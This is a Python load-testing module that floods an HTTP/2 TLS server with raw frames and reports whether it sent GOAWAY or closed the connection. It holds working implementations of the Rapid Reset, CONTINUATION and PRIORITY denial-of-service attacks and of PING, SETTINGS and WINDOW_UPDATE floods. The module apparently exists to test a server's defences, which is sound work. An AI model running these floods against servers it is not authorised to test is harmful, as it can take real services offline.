"""HTTP/2 floods against a TLS listener (issue 13), each bounded in time and in count, reporting what the server did.

Modes:

- ``rapid-reset``: HEADERS then RST_STREAM(CANCEL) on new streams as fast as possible (CVE-2023-44487).
- ``continuation``: one HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316).
- ``ping``, ``settings``: PING / SETTINGS frames as fast as possible.
- ``window-update``: connection WINDOW_UPDATEs of increment 1 as fast as possible (the window never overflows).
- ``priority``: PRIORITY frames for idle streams as fast as possible (CVE-2019-9513).
- ``streams``: ``--count`` tiny GETs, at most ``--window`` in flight per connection over ``--connections``
  connections, every response read: the server's per-stream cost and whether it leaks per stream.

Frames are written raw (an HTTP/2 library refuses to produce most of these). Request header blocks use only the
static table and never-indexed literals, so one encoded block can be sent any number of times without touching the
server's dynamic table; response header blocks are decoded with ``hpack`` (the server's encoder may index).

    .venv/bin/python -m bench.h2flood --port 8443 --host app.test --mode rapid-reset [--seconds 5] [--count 100000]

The report (one JSON object, ``--json`` for a file too) says whether and when the server sent GOAWAY (error code,
last stream id) or closed the connection, how many frames were sent, and for ``streams`` how many were answered
with which status.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import json
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field

import hpack
from hpack import NeverIndexedHeaderTuple

MODES = ("rapid-reset", "continuation", "ping", "settings", "window-update", "priority", "streams")
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS, PADDED, PRIORITY_FLAG = 0x4, 0x8, 0x20
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = ("NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
               "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED")
WINDOW = 1 << 30  # what this client grants the server, per stream and for the connection
BATCH = 64  # frames (streams for rapid-reset) per write between reads


def error_name(code: int) -> str:
    return ERROR_NAMES[code] if 0 <= code < len(ERROR_NAMES) else f"0x{code:x}"


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream_id & 0x7FFFFFFF) + payload


def request_block(authority: str, path: str = "/", method: str = "GET") -> bytes:
    """A request header block that leaves the server's dynamic table alone (so it can be repeated verbatim)."""
    fields = [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path),
              ("user-agent", "h2flood")]
    return bytes(hpack.Encoder().encode([NeverIndexedHeaderTuple(n, v) for n, v in fields]))


def padding_block(size: int) -> bytes:
    """About ``size`` bytes of one never-indexed literal header field (a CONTINUATION frame's payload)."""
    return bytes(hpack.Encoder().encode([NeverIndexedHeaderTuple("x-pad", "a" * max(1, size - 16))],
                                        huffman=False))


@dataclass
class Result:
    mode: str
    frames_sent: int = 0
    streams_opened: int = 0
    streams_done: int = 0
    statuses: dict[int, int] = field(default_factory=dict)
    resets: dict[str, int] = field(default_factory=dict)
    seconds: float = 0.0
    goaway: str | None = None
    goaway_after_s: float | None = None
    last_stream_id: int | None = None
    closed: bool = False
    closed_after_s: float | None = None
    error: str = ""

    def line(self) -> str:
        verdict = (f"GOAWAY {self.goaway} after {self.goaway_after_s:.3f} s (last stream {self.last_stream_id})"
                   if self.goaway is not None and self.goaway_after_s is not None else "no GOAWAY")
        closed = f", closed after {self.closed_after_s:.3f} s" if self.closed_after_s is not None else ""
        streams = (f", streams {self.streams_done:,}/{self.streams_opened:,} done, statuses {self.statuses}"
                   if self.streams_opened else "")
        return (f"{self.mode}: {self.frames_sent:,} frames in {self.seconds:.3f} s; {verdict}{closed}{streams}"
                f"{'; ' + self.error if self.error else ''}")


class Conn:
    """One client connection: raw writes, and a reader that answers SETTINGS, keeps the windows open, counts
    finished streams and statuses and notes GOAWAY and the close."""

    def __init__(self, sock: ssl.SSLSocket, started: float) -> None:
        self.sock = sock
        self.started = started
        self.buf = bytearray()
        self.decoder = hpack.Decoder()
        self.fragments: dict[int, bytearray] = {}
        self.goaway: tuple[int, int] | None = None  # (last stream id, error code)
        self.goaway_at: float | None = None
        self.closed_at: float | None = None
        self.statuses: collections.Counter[int] = collections.Counter()
        self.resets: collections.Counter[str] = collections.Counter()
        self.done = 0
        self.unacked = 0  # DATA bytes received since the last connection WINDOW_UPDATE
        self.error = ""

    @property
    def closed(self) -> bool:
        return self.closed_at is not None

    @property
    def finished(self) -> bool:
        return self.closed or self.goaway is not None

    def _close(self, why: str = "") -> None:
        if self.closed_at is None:
            self.closed_at = time.monotonic()
            self.error = self.error or why

    def send(self, data: bytes) -> bool:
        """Write all of ``data``; False once the connection is gone or the server stopped reading."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except TimeoutError:
            self.error = "send timed out: the server stopped reading"
            return False
        except (OSError, ssl.SSLError) as exc:
            self._close(f"send: {type(exc).__name__}: {exc}")
            return False

    def readable(self) -> bool:
        return self.sock.pending() > 0

    def poll(self, timeout: float) -> None:
        """Read what arrives within ``timeout`` seconds (0: only what is there now)."""
        if self.closed:
            return
        if not self.readable() and not select.select([self.sock], [], [], max(0.0, timeout))[0]:
            return
        self.read_once()

    def read_once(self) -> None:
        try:
            self.sock.setblocking(False)
            try:
                while True:
                    data = self.sock.recv(262144)
                    if not data:
                        self._close()
                        break
                    self.buf += data
                    if not self.sock.pending():
                        break
            finally:
                self.sock.setblocking(True)
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        except (OSError, ssl.SSLError) as exc:
            self._close(f"recv: {type(exc).__name__}: {exc}")
        self._frames()

    def _frames(self) -> None:
        buf, pos, replies = self.buf, 0, []
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            reply = self._frame(ftype, flags, sid, payload)
            if reply:
                replies.append(reply)
        del buf[:pos]
        if replies and not self.closed:
            self.send(b"".join(replies))

    def _frame(self, ftype: int, flags: int, sid: int, payload: bytes) -> bytes:
        if ftype == DATA:
            self.unacked += len(payload)
            if flags & END_STREAM:
                self.done += 1
            if self.unacked > WINDOW // 2:
                self.unacked, grant = 0, self.unacked
                return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", grant))
        elif ftype in (HEADERS, CONTINUATION):
            block = self.fragments.pop(sid, bytearray())
            if ftype == HEADERS:
                if flags & PADDED:
                    payload = payload[1:len(payload) - payload[0]]
                if flags & PRIORITY_FLAG:
                    payload = payload[5:]
                if flags & END_STREAM:
                    self.done += 1
            block += payload
            if not flags & END_HEADERS:
                self.fragments[sid] = block
                return b""
            for name, value in self.decoder.decode(bytes(block), raw=True):
                if name == b":status":
                    self.statuses[int(value)] += 1
        elif ftype == RST_STREAM:
            self.done += 1
            self.resets[error_name(int.from_bytes(payload[:4], "big"))] += 1
        elif ftype == SETTINGS and not flags & ACK:
            return frame(SETTINGS, ACK, 0)
        elif ftype == PING and not flags & ACK:
            return frame(PING, ACK, 0, payload)
        elif ftype == GOAWAY and self.goaway is None:
            self.goaway = (int.from_bytes(payload[:4], "big") & 0x7FFFFFFF, int.from_bytes(payload[4:8], "big"))
            self.goaway_at = time.monotonic()
        return b""


def connect(port: int, server_name: str, address: str = "127.0.0.1", timeout: float = 10.0,
            source: str | None = None) -> Conn:
    """TLS with ALPN h2 (certificate not checked: a load tool), the preface, SETTINGS and a wide-open window."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((address, port), timeout=timeout,
                                   source_address=(source, 0) if source else None)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock = ctx.wrap_socket(raw, server_hostname=server_name)
    if sock.selected_alpn_protocol() != "h2":
        sock.close()
        raise ConnectionError(f"the server did not select h2 (ALPN: {sock.selected_alpn_protocol()!r})")
    conn = Conn(sock, time.monotonic())
    settings = struct.pack(">HIHI", 0x2, 0, 0x4, WINDOW)  # ENABLE_PUSH 0, INITIAL_WINDOW_SIZE
    conn.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW - 65535)))
    return conn


# --- the floods ---------------------------------------------------------------------------------------------------


Batch = Callable[[int], tuple[bytes, int, int]]  # (frames wanted) -> (bytes, frames, streams opened)


def batches(mode: str, authority: str, path: str, frame_bytes: int) -> Batch:
    """The frames each flood mode writes, ``n`` at a time, as a closure over its own counters."""
    block = request_block(authority, path)
    state = {"sid": 1, "seq": 0}

    def rapid_reset(n: int) -> tuple[bytes, int, int]:
        streams = max(1, n // 2)
        sid = state["sid"]
        out = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block)
                       + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
                       for s in range(sid, sid + 2 * streams, 2))
        state["sid"] = sid + 2 * streams
        return out, 2 * streams, streams

    pad = padding_block(frame_bytes)

    def continuation(n: int) -> tuple[bytes, int, int]:
        if state["seq"] == 0:
            state["seq"] = 1
            return frame(HEADERS, 0, 1, block) + frame(CONTINUATION, 0, 1, pad) * (n - 1), n, 1
        return frame(CONTINUATION, 0, 1, pad) * n, n, 0

    def ping(n: int) -> tuple[bytes, int, int]:
        seq = state["seq"]
        state["seq"] = seq + n
        return b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(seq, seq + n)), n, 0

    def settings(n: int) -> tuple[bytes, int, int]:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 0x2, 0)) * n, n, 0  # ENABLE_PUSH 0: harmless, repeated

    def window_update(n: int) -> tuple[bytes, int, int]:
        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * n, n, 0

    def priority(n: int) -> tuple[bytes, int, int]:
        sid = state["sid"]
        state["sid"] = sid + 2 * n  # idle streams (never opened), each depending on stream 0 with weight 16
        return b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", 0, 15)) for s in range(sid, sid + 2 * n, 2)), n, 0

    table: dict[str, Batch] = {"rapid-reset": rapid_reset, "continuation": continuation, "ping": ping,
                               "settings": settings, "window-update": window_update, "priority": priority}
    return table[mode]


def flood(conn: Conn, mode: str, make: Batch, seconds: float, count: int, grace: float) -> Result:
    """Write the mode's frames until the count, the time, a GOAWAY or the close; then wait ``grace`` seconds for
    the server's verdict."""
    res = Result(mode)
    start = time.monotonic()
    conn.sock.settimeout(max(1.0, seconds))
    while res.frames_sent < count and time.monotonic() - start < seconds and not conn.finished:
        data, frames, streams = make(min(BATCH, count - res.frames_sent))
        if not conn.send(data):
            break
        res.frames_sent += frames
        res.streams_opened += streams
        conn.poll(0)
    res.seconds = time.monotonic() - start
    deadline = time.monotonic() + grace
    while not conn.finished and time.monotonic() < deadline:
        conn.poll(deadline - time.monotonic())
    return _report(res, [conn], start)


def streams(conns: Sequence[Conn], authority: str, path: str, total: int, window: int, seconds: float) -> Result:
    """``total`` GETs spread over ``conns``, at most ``window`` in flight on each; every response read."""
    res = Result("streams")
    block = request_block(authority, path)
    next_sid = {id(c): 1 for c in conns}
    start = time.monotonic()
    for c in conns:
        c.sock.settimeout(max(1.0, seconds))
    while time.monotonic() - start < seconds:
        live = [c for c in conns if not c.finished]
        if not live or sum(c.done for c in conns) >= total:
            break
        for c in live:
            opened = next_sid[id(c)] // 2
            room = min(window - (opened - c.done), total - res.streams_opened)
            if room > 0:
                sid = next_sid[id(c)]
                data = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block)
                                for s in range(sid, sid + 2 * room, 2))
                if c.send(data):
                    next_sid[id(c)] = sid + 2 * room
                    res.frames_sent += room
                    res.streams_opened += room
        ready = [c for c in live if c.readable()]
        if not ready:
            readable = select.select([c.sock for c in live], [], [], min(1.0, max(0.0, start + seconds
                                                                             - time.monotonic())))[0]
            ready = [c for c in live if c.sock in readable]
        for c in ready:
            c.read_once()
    res.seconds = time.monotonic() - start
    if sum(c.done for c in conns) < total and not res.error:
        res.error = f"stopped after {seconds} s"
    return _report(res, conns, start)


def _report(res: Result, conns: Sequence[Conn], start: float) -> Result:
    res.streams_done = sum(c.done for c in conns)
    statuses: collections.Counter[int] = collections.Counter()
    resets: collections.Counter[str] = collections.Counter()
    for c in conns:
        statuses.update(c.statuses)
        resets.update(c.resets)
    res.statuses, res.resets = dict(statuses), dict(resets)
    first = min((c for c in conns if c.goaway is not None), key=lambda c: c.goaway_at or 0.0, default=None)
    if first is not None and first.goaway is not None and first.goaway_at is not None:
        res.last_stream_id, code = first.goaway
        res.goaway, res.goaway_after_s = error_name(code), first.goaway_at - start
    closed = [c.closed_at for c in conns if c.closed_at is not None]
    res.closed = bool(closed)
    res.closed_after_s = min(closed) - start if closed else None
    errors = "; ".join(sorted({c.error for c in conns if c.error}))
    res.error = "; ".join(e for e in (res.error, errors) if e)
    return res


def run(mode: str, port: int, host: str, address: str = "127.0.0.1", seconds: float = 10.0, count: int = 100_000,
        connections: int = 1, window: int = 100, path: str = "/", frame_bytes: int = 1024,
        grace: float = 3.0) -> Result:
    """One flood, start to finish (connections opened and closed here)."""
    if mode not in MODES:
        raise ValueError(f"unknown mode {mode!r} (one of {', '.join(MODES)})")
    conns = [connect(port, host, address) for _ in range(connections if mode == "streams" else 1)]
    try:
        if mode == "streams":
            return streams(conns, host, path, count, window, seconds)
        return flood(conns[0], mode, batches(mode, host, path, frame_bytes), seconds, count, grace)
    finally:
        for c in conns:
            with contextlib.suppress(OSError):
                c.sock.close()


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m bench.h2flood", description=__doc__.splitlines()[0] if __doc__
                                 else None)
    ap.add_argument("--mode", choices=MODES, required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host", required=True, help="SNI and :authority")
    ap.add_argument("--address", default="127.0.0.1", help="where to connect")
    ap.add_argument("--seconds", type=float, default=10.0, help="stop sending after this long")
    ap.add_argument("--count", type=int, default=100_000, help="frames (streams for --mode streams) at most")
    ap.add_argument("--connections", type=int, default=1, help="--mode streams only")
    ap.add_argument("--window", type=int, default=100, help="streams in flight per connection (--mode streams)")
    ap.add_argument("--path", default="/")
    ap.add_argument("--frame-bytes", type=int, default=1024, help="CONTINUATION payload size")
    ap.add_argument("--grace", type=float, default=3.0, help="seconds to wait for GOAWAY after the flood")
    ap.add_argument("--json", help="also write the report here")
    args = ap.parse_args(argv)
    res = run(args.mode, args.port, args.host, args.address, args.seconds, args.count, args.connections,
              args.window, args.path, args.frame_bytes, args.grace)
    print(res.line(), file=sys.stderr)
    text = json.dumps(asdict(res), sort_keys=True)
    print(text)
    if args.json:
        with open(args.json, "w") as fh:
            fh.write(text + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
